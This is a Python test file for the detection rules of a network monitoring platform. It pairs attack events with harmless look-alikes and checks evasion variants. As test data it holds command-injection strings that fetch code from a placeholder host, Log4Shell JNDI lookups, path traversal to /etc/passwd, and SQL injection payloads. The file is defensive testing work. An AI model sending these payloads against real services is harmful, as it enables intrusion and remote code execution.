"""The rules that come with the platform: each finds what it is for, and leaves its innocent neighbour alone."""

from __future__ import annotations

from ipaddress import ip_network

import pytest

from sekisho.pipeline.detect import Detector, shipped_rules

from .eve import event, events, real_events

HOMES = {"UTM100001": (ip_network("192.168.1.0/24"),)}
LONG_LABEL = "a" * 45 + ".t.example.com"
LONG_NAME = ".".join(["b" * 30] * 5) + ".example.com"


def web(url: str, **parts: object) -> bytes:
    request = {"hostname": "www.example.com", "url": url, "http_method": "GET", "status": 404, **parts}
    return event("http", dest_port=80, http=request)


def dns(name: str, kind: str = "A") -> bytes:
    return event("dns", dest_port=53, proto="UDP", dns={"type": "query", "id": 1, "rrname": name, "rrtype": kind})


def tls(port: int, **parts: object) -> bytes:
    return event("tls", dest_port=port, tls={"version": "TLS 1.2", **parts})


def flow(port: int, **parts: object) -> bytes:
    return event("flow", dest_port=port, flow={"pkts_toserver": 1, "state": "new", **parts})


CASES: dict[str, tuple[bytes, bytes]] = {
    "http_command_injection": (web("/ping?host=1.1.1.1;wget%20http://x/y"), web("/wiki/wget;lang=en")),
    "http_path_traversal": (web("/cgi-bin/%2e%2e/%2e%2e/etc/passwd"), web("/docs/../index.html")),
    "http_log4shell": (web("/", http_user_agent="${jndi:ldap://x/a}"), web("/jndi", http_user_agent="Mozilla ${x}")),
    "http_webshell_name": (web("/up/c99.php?x=1", status=200), web("/up/c99.php", status=404)),
    "http_scanner_user_agent": (web("/", http_user_agent="sqlmap/1.8"), web("/", http_user_agent="Mozilla/5.0")),
    "http_sql_injection": (web("/p?id=1+UNION+ALL+SELECT+1,2"), web("/p?q=student+union+elections+2026")),
    "http_secret_file_answered": (web("/app/.git/config", status=200), web("/app/.git/config", status=403)),
    "http_program_from_bare_address": (web("/a.exe", hostname="203.0.113.9"), web("/a.exe")),
    "http_script_client_fetches_program": (
        web("/tool.ps1", http_user_agent="Mozilla/5.0 WindowsPowerShell/5.1"),
        web("/api/v1", http_user_agent="Mozilla/5.0 WindowsPowerShell/5.1"),
    ),
    "dns_long_label_in_txt": (dns(LONG_LABEL, "TXT"), dns(LONG_LABEL, "A")),
    "dns_very_long_name": (dns(LONG_NAME), dns("www.example.com")),
    "dns_mining_pool": (dns("xmr-eu1.nanopool.org"), dns("nanopool.org.example.com")),
    "dns_onion_gateway": (dns("abcdef.onion.ws"), dns("onion.example.com")),
    "tls_without_name_on_odd_port": (tls(8443), tls(8443, sni="www.example.com")),
    "flow_smb_to_the_internet": (flow(445), flow(445, action="drop")),
}


@pytest.fixture(scope="module")
def detector() -> Detector:
    return Detector(homes=HOMES)


def found(detector: Detector, line: bytes) -> set[str]:
    names = {rule.id: rule.path.stem for rule in detector.rules.rules}
    return {names[finding.rule_id] for finding in detector.findings(events([line]))}


def test_all_rules_load_without_any_problem_and_each_has_its_case():
    rules = shipped_rules()
    assert rules.problems == ()
    assert {rule.path.stem for rule in rules.rules} == set(CASES)


@pytest.mark.parametrize("name", CASES)
def test_a_rule_finds_its_attack_and_leaves_the_neighbour_alone(detector, name):
    attack, innocent = CASES[name]
    assert name in found(detector, attack)
    assert name not in found(detector, innocent)


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("http_command_injection", web("/cgi?x=%60id%60")),
        ("http_command_injection", web("/cgi?x=$(curl${IFS}x)")),
        ("http_path_traversal", web("/..%252f..%252fetc")),
        ("http_path_traversal", web("/a/..\\..\\boot.ini")),
        ("http_log4shell", web("/?x=$%7BjNdI:dns")),
        ("http_log4shell", web("/", http_refer="${${lower:j}ndi}")),
        ("http_sql_injection", web("/p?id=1'%20or%20'1'='1")),
        ("http_sql_injection", web("/p?id=1/**/union/**/select/**/1")),
        ("dns_long_label_in_txt", dns(LONG_LABEL.upper(), "NULL")),
        ("http_program_from_bare_address", web("/x.sh", hostname="203.0.113.9:8080")),
    ],
)
def test_common_disguises_do_not_help(detector, name, line):
    assert name in found(detector, line)


def test_every_rule_names_its_tactic_and_technique(detector):
    for rule in detector.rules.rules:
        assert rule.tactic and rule.technique, rule.path.name


def test_in_captures_of_attacks_they_find_the_attacks_and_little_else(detector):
    names = {rule.id: rule.path.stem for rule in detector.rules.rules}
    sigma = [(names[f.rule_id], f) for f in detector.findings(real_events()) if f.rule_source == "sigma"]
    tunnel = [f for name, f in sigma if name.startswith("dns_")]
    assert len(tunnel) > 50
    assert all(".tunnel.com" in finding.evidence for finding in tunnel)
    assert {name for name, _ in sigma} - {"dns_long_label_in_txt", "dns_very_long_name"} == {
        "flow_smb_to_the_internet",
        "http_path_traversal",
        "http_scanner_user_agent",
    }
    assert len(sigma) < 150
